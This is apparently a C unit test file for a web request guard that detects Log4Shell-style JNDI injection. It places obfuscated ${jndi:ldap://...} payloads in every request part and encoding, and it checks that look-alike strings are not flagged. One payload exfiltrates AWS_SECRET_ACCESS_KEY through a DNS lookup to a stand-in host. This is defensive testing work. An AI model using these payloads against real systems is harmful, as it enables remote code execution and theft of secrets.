/* Payloads in every part of a request and every coding: found there, however the body is cut; and
 * what only looks like one is not. Own vectors, and the collected ones where they are. */
#include "probe.h"

#include "base/file.h"

#include <dirent.h>
#include <zlib.h>

static const char *const own[] = {
    "${jndi:ldap://x/a}",
    "${${lower:j}ndi:${lower:l}dap://x/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://x${hostName}/a}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x/a}",
    "$${jndi:ldap://x/a} ${q}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
    "${jnd${upper:\xc4\xb1}:ldap://x/a}",
    "%24%7Bjndi:ldap://x/a%7D",
    "%2524%257Bjndi%253Aldap%253A%252F%252Fx%252Fa%257D",
    "\\u0024\\u007bjndi:ldap://x/a}",
    "&#36;&#x7b;jndi:ldap://x/a&#125;",
    "&dollar;&lbrace;jndi:ldap://x/a&rcub;",
    "JHtqbmRpOmxkYXA6Ly94L2F9",
    "${jndi:ldap://x/a",
    "${${lower:j}ndi:ldap://x/${lower:a",
};

/* --- spellings */

enum { ROOM = 1 << 16 };

static bool plain(uint8_t c)
{
    return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
}

static void as_it_is(struct slice s, struct buf *b)
{
    (void)buf_add_slice(b, s);
}

static void percent(struct slice s, struct buf *b)
{
    for (size_t i = 0; i < s.n; i++)
        (void)(plain(s.p[i]) ? buf_add_char(b, (char)s.p[i]) : buf_addf(b, "%%%02X", s.p[i]));
}

static void percent_all(struct slice s, struct buf *b)
{
    for (size_t i = 0; i < s.n; i++)
        (void)buf_addf(b, "%%%02x", s.p[i]);
}

static void json(struct slice s, struct buf *b)
{
    for (size_t i = 0; i < s.n; i++) {
        if (s.p[i] < 0x20) {
            (void)buf_addf(b, "\\u%04x", s.p[i]);
            continue;
        }
        if (s.p[i] == '"' || s.p[i] == '\\')
            (void)buf_add_char(b, '\\');
        (void)buf_add_char(b, (char)s.p[i]);
    }
}

static void json_slashes(struct slice s, struct buf *b)
{
    for (size_t i = 0; i < s.n; i++) {
        if (s.p[i] == '/')
            (void)buf_add_char(b, '\\');
        json(slice_sub(s, i, 1), b);
    }
}

static void json_all(struct slice s, struct buf *b)
{
    for (size_t i = 0; i < s.n; i++) {
        if (s.p[i] >= 0x80)
            (void)buf_add_char(b, (char)s.p[i]);
        else
            (void)buf_addf(b, "\\u%04X", s.p[i]);
    }
}

static void xml(struct slice s, struct buf *b)
{
    for (size_t i = 0; i < s.n; i++) {
        if (strchr("<>&\"'", s.p[i]) && s.p[i])
            (void)buf_addf(b, "&#%d;", s.p[i]);
        else
            (void)buf_add_char(b, (char)s.p[i]);
    }
}

static void xml_all(struct slice s, struct buf *b)
{
    for (size_t i = 0; i < s.n; i++) {
        if (s.p[i] >= 0x80)
            (void)buf_add_char(b, (char)s.p[i]);
        else
            (void)buf_addf(b, "&#x%x;", s.p[i]);
    }
}

/* --- places */

#define B "multipart/form-data; boundary=----b"
#define PART "------b\r\nContent-Disposition: form-data; name=\"q\""

static const struct place {
    const char *type; /* NULL: of the head: u, a, h or c in before */
    const char *before;
    void (*spell)(struct slice s, struct buf *b);
    const char *behind, *field;
    const char *without; /* payloads with one of these mean another field there */
} places[] = {
    {NULL, "u", as_it_is, "", "uri", ""},
    {NULL, "u", percent, "", "uri", ""},
    {NULL, "a", as_it_is, "", "arg:q", "&"},
    {NULL, "a", percent, "", "arg:q", ""},
    {NULL, "h", as_it_is, "", "header:x-api-version", ""},
    {NULL, "h", percent_all, "", "header:x-api-version", ""},
    {NULL, "c", as_it_is, "", "cookie:q", ";"},
    {NULL, "c", percent, "", "cookie:q", ""},
    {"application/x-www-form-urlencoded", "a=b&q=", as_it_is, "&c=d", "form:q", "&"},
    {"application/x-www-form-urlencoded", "a=b&q=", percent, "&c=d", "form:q", ""},
    {"application/x-www-form-urlencoded", "q=", percent_all, "", "form:q", ""},
    {"application/json", "{\"a\":1,\"q\":[\"", json, "\"],\"b\":2}", "json:/q/0", ""},
    {"application/json", "{\"a\":1,\"q\":[\"", json_slashes, "\"],\"b\":2}", "json:/q/0", ""},
    {"application/json", "{\"a\":1,\"q\":[\"", json_all, "\"],\"b\":2}", "json:/q/0", ""},
    {"text/xml", "<a b='1'><q>", xml, "</q><c/></a>", "xml:a/q", ""},
    {"text/xml", "<a b='1'><q>", xml_all, "</q><c/></a>", "xml:a/q", ""},
    {"application/soap+xml", "<a><q r=\"", xml, "\"/></a>", "xml:a/q/@r", ""},
    {"application/xml", "<a><q><![CDATA[", as_it_is, "]]></q></a>", "xml:a/q", ""},
    {B, PART "\r\n\r\n", as_it_is, "\r\n------b--\r\n", "form:q", ""},
    {B, PART "; filename=\"", json, "\"\r\n\r\n1\r\n------b--\r\n", "file:q", ""},
    {B, PART "; filename=\"a\"\r\n\r\n", as_it_is, "\r\n------b--\r\n", "file:q", ""},
    {"text/plain", "user: ", as_it_is, "\n", "body", ""},
    {"", "", as_it_is, "", "body", ""},
};

static void ask_head(struct probe *p, const struct place *at, struct slice text)
{
    struct buf b;
    buf_init(&b, ROOM);
    probe_begin(p);
    if (*at->before == 'u') {
        (void)buf_add_str(&b, "/api/");
        (void)buf_add_slice(&b, text);
        guard_uri(&p->q, buf_slice(&b));
    } else if (*at->before == 'h') {
        guard_header(&p->q, SLICE_LIT("X-Api-Version"), text);
    } else {
        (void)buf_add_str(&b, *at->before == 'a' ? "z=1&q=" : "z=1; q=");
        (void)buf_add_slice(&b, text);
        if (*at->before == 'a')
            guard_args(&p->q, buf_slice(&b));
        else
            guard_header(&p->q, SLICE_LIT("Cookie"), buf_slice(&b));
    }
    probe_end(p);
    buf_done(&b);
}

static struct slice pack(struct slice s, int window, struct buf *out)
{
    uint8_t *room;
    buf_clear(out);
    assert_ok(buf_reserve(out, s.n + 200, &room));
    z_stream z = {.next_in = (z_const Bytef *)(uintptr_t)s.p,
                  .avail_in = (uInt)s.n,
                  .next_out = room,
                  .avail_out = (uInt)s.n + 200};
    assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, window, 8, Z_DEFAULT_STRATEGY), Z_OK);
    assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
    (void)deflateEnd(&z);
    buf_commit(out, s.n + 200 - z.avail_out);
    return buf_slice(out);
}

static void check(const struct probe *p, const struct place *at, struct slice payload,
                  const char *how)
{
    bool fits = true;
    for (const char *c = at->without; *c; c++)
        fits &= slice_index(payload, (uint8_t)*c) == payload.n;
    if (p->q.found.why != GUARD_LOOKUP || p->q.found.verdict < VERDICT_IF_CLOSED)
        fail_msg("%.*s in %s (%s): %s", (int)payload.n, (const char *)payload.p, at->field, how,
                 probe_found(p));
    if (fits && strcmp(probe_field(p), at->field) != 0)
        fail_msg("%.*s in %s (%s): %s", (int)payload.n, (const char *)payload.p, at->field, how,
                 probe_found(p));
}

static void in_body(struct probe *p, const struct place *at, struct slice payload,
                    struct slice body, bool everywhere)
{
    static const struct {
        const char *name;
        int window;
    } codings[] = {{"gzip", 15 + 16}, {"deflate", 15}, {"deflate", -15}};
    struct buf packed;
    p->piece = p->cut = 0;
    probe_body(p, at->type, "", body);
    check(p, at, payload, "whole");
    p->piece = 1;
    probe_body(p, at->type, "", body);
    check(p, at, payload, "bytes");
    p->piece = 0;
    for (p->cut = 1; everywhere && p->cut < body.n; p->cut++) {
        probe_body(p, at->type, "identity", body);
        check(p, at, payload, "two pieces");
    }
    p->cut = 0;
    buf_init(&packed, ROOM);
    for (size_t i = 0; i < ARRAY_LEN(codings) && payload.n % 4 == 0; i++) { /* takes time */
        p->piece = i == 1;
        probe_body(p, at->type, codings[i].name, pack(body, codings[i].window, &packed));
        check(p, at, payload, codings[i].name);
        assert_false(p->q.limited);
    }
    p->piece = 0;
    buf_done(&packed);
}

/* base64 whose letters are escaped one by one is not sought. */
static bool is_base64(struct slice s)
{
    for (size_t i = 0; i < s.n; i++)
        if (strchr("$%\\&{", s.p[i]))
            return false;
    return true;
}

static bool hides_letters(const struct place *at)
{
    return at->spell == percent_all || at->spell == json_all || at->spell == xml_all;
}

static void everywhere(struct probe *p, struct slice payload, bool all_cuts)
{
    struct buf text, body;
    buf_init(&text, ROOM);
    buf_init(&body, ROOM);
    for (size_t i = 0; i < ARRAY_LEN(places); i++) {
        buf_clear(&text);
        buf_clear(&body);
        if (is_base64(payload) && hides_letters(&places[i]))
            continue;
        places[i].spell(payload, &text);
        if (!places[i].type) {
            ask_head(p, &places[i], buf_slice(&text));
            check(p, &places[i], payload, "head");
            continue;
        }
        (void)buf_add_str(&body, places[i].before);
        (void)buf_add_slice(&body, buf_slice(&text));
        (void)buf_add_str(&body, places[i].behind);
        assert_ok(buf_status(&body));
        in_body(p, &places[i], payload, buf_slice(&body), all_cuts);
    }
    buf_done(&text);
    buf_done(&body);
}

static void test_own(void **state)
{
    struct probe p;
    (void)state;
    probe_init(&p);
    for (size_t i = 0; i < ARRAY_LEN(own); i++)
        everywhere(&p, slice_str(own[i]), i % 3 == 0);
    probe_done(&p);
}

static bool load(const char *name, struct buf *b)
{
    char path[600];
    struct err e;
    buf_init(b, MIB(4));
    (void)snprintf(path, sizeof path, "%s/%s", SHARED_LOOKUPS, name);
    return file_read_all(path, b, &e) == OK;
}

static void test_collected(void **state)
{
    struct probe p;
    struct buf b;
    struct slice rest, line, field = {NULL, 0};
    size_t n = 0;
    (void)state;
    if (!load("collected.tsv", &b))
        skip();
    probe_init(&p);
    for (rest = buf_slice(&b); slice_next_line(&rest, &line); n++) {
        for (int i = 0; i < 4; i++)
            assert_true(slice_next_field(&line, '\t', &field));
        everywhere(&p, line, n % 64 == 0);
    }
    assert_true(n > 200);
    buf_done(&b);
    probe_done(&p);
}

static void test_encoded(void **state)
{
    struct probe p;
    size_t lines = 0;
    DIR *d = opendir(SHARED_LOOKUPS "/encoded");
    (void)state;
    if (!d) {
        skip();
        return;
    }
    probe_init(&p);
    for (struct dirent *ent = readdir(d); ent; ent = readdir(d)) {
        char name[300];
        struct buf b;
        struct slice rest, line;
        (void)snprintf(name, sizeof name, "encoded/%s", ent->d_name);
        if (ent->d_name[0] == '.' || !load(name, &b))
            continue;
        for (rest = buf_slice(&b); slice_next_line(&rest, &line); lines++)
            everywhere(&p, line, false);
        buf_done(&b);
    }
    (void)closedir(d);
    assert_true(lines > 100);
    probe_done(&p);
}

/* --- what is none */

static const char *const harmless[] = {
    "Hello ${name}, join nodes in district: ldap server ok",
    "$${jndi is the name of: a thing}",
    "cost $ {jndi} : ldap",
    "<c:out value=\"${fn:escapeXml(param.q)}\"/>",
    "Price: ${{ matrix.os }} jndi disabled: ldap: ok",
    "search?q=how+to+escape+%24%7B+in+java%3A+object+named+identity%3A+ldap%3A",
    "Error looking up JNDI resource [ldap://10.0.0.1:1389/a]",
    "${env:HOME}/bin/java -Djava.naming.provider.url=ldap://localhost",
};

static void nowhere(struct probe *p, struct slice text)
{
    struct buf body;
    buf_init(&body, ROOM);
    for (size_t i = 0; i < ARRAY_LEN(places); i++) {
        buf_clear(&body);
        if (places[i].type)
            (void)buf_add_str(&body, places[i].before);
        places[i].spell(text, &body);
        if (places[i].type) {
            (void)buf_add_str(&body, places[i].behind);
            probe_body(p, places[i].type, "", buf_slice(&body));
        } else {
            ask_head(p, &places[i], buf_slice(&body));
        }
        if (p->q.found.why != GUARD_NOTHING)
            fail_msg("%.*s in %s: %s", (int)text.n, (const char *)text.p, places[i].field,
                     probe_found(p));
    }
    buf_done(&body);
}

static void test_harmless(void **state)
{
    static const char *const files[] = {"benign-tricky.log", "not_jndi.txt"};
    struct probe p;
    (void)state;
    probe_init(&p);
    for (size_t i = 0; i < ARRAY_LEN(harmless); i++)
        nowhere(&p, slice_str(harmless[i]));
    for (size_t i = 0; i < ARRAY_LEN(files); i++) {
        struct buf b;
        struct slice rest, line;
        if (load(files[i], &b))
            for (rest = buf_slice(&b); slice_next_line(&rest, &line);)
                nowhere(&p, line);
        buf_done(&b);
    }
    probe_done(&p);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_own),
        cmocka_unit_test(test_collected),
        cmocka_unit_test(test_encoded),
        cmocka_unit_test(test_harmless),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
